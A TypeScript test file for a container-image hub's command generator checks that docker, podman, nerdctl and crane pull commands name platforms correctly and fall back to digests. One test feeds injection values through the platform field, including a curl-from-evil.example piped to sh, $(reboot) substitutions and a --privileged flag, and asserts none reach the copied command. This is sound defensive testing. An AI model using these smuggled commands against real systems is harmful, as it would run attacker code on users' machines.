import assert from 'node:assert/strict'
import { test } from 'node:test'
import { imageTools } from '../../lib/hub/image-tools.ts'
import type { ImageDetails } from '../../lib/hub/image-types.ts'
import { platformChoices } from '../../lib/hub/platform-choice.ts'

const INDEX = `sha256:${'a'.repeat(64)}`
const IMAGE = `sha256:${'b'.repeat(64)}`
const index: ImageDetails = {
  repository: 'alice/app', tag: 'v1', digest: INDEX, kind: 'index', mediaType: 'application/vnd.oci.image.index.v1+json', size: 1, pushedAt: 0,
  tags: [], annotations: [], entries: [], layers: [], truncated: false, configState: 'none', referrers: [], referrersTruncated: false,
}
const linesFor = (...platforms: (string | undefined)[]): string[] => {
  const choices = platformChoices(platforms.map((platform) => ({ digest: IMAGE, mediaType: 'm', size: 1, attestation: false, ...(platform === undefined ? {} : { platform }) })))
  return imageTools(index, { host: 'hub.example', isPlain: false, published: undefined, platform: choices.at(-1) }).flatMap(({ lines }) => lines)
}

test('the commands for one platform of an index name it to the tools that take one', () => {
  const lines = linesFor('linux/arm64/v8')
  for (const tool of ['docker', 'podman', 'nerdctl']) assert.ok(lines.includes(`${tool} pull --platform linux/arm64/v8 hub.example/alice/app:v1`), tool)
  assert.ok(lines.includes('crane pull hub.example/alice/app:v1 app.tar'))
})

test('a platform that stands in an index twice, or that it does not tell, is pulled by its digest', () => {
  for (const platforms of [['linux/amd64', 'linux/amd64'], [undefined]]) {
    const lines = linesFor(...platforms)
    assert.ok(lines.includes(`docker pull hub.example/alice/app@${IMAGE}`), String(lines))
    assert.ok(!lines.some((line) => line.includes('--platform')))
  }
})

test('bad-input 33: what an index says of its platforms becomes no part of a command that is copied', () => {
  for (const platform of ['linux; curl evil.example | sh #/amd64', '$(reboot)/x', '`reboot`/x', 'linux/amd64\nreboot', '--help/x', 'linux/amd64 --privileged', "$'/x", '../x', 'LINUX/amd64']) {
    const lines = linesFor(platform)
    assert.ok(lines.includes(`docker pull hub.example/alice/app@${IMAGE}`), platform)
    for (const line of lines) assert.match(line, /^[\w@:./ -]+$/)
  }
})
